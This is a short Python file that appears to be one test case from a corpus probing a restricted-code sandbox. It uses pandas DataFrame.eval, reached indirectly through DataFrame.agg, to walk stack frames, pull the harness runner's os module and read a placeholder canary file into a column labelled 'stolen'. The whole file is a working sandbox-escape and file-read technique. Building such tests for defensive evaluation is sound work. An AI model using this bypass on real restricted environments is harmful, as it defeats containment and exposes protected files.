# class: module_reach
# technique: the harness runner's `os` taken out of its frame by a level walk; os.open/os.read are value attributes no table lists (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: read
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)


def outer(expr, **names):
    for depth in range(1, 48):
        try:
            return run("eval", 0, expr, level=depth, local_dict=names)
        except Exception:
            continue
    raise RuntimeError("no frame resolves the expression")

osv = outer("@os")
fd = osv.open("{{CANARY_FILE}}", 0)
df = pd.DataFrame({"stolen": [osv.read(fd, 65536).decode()]})
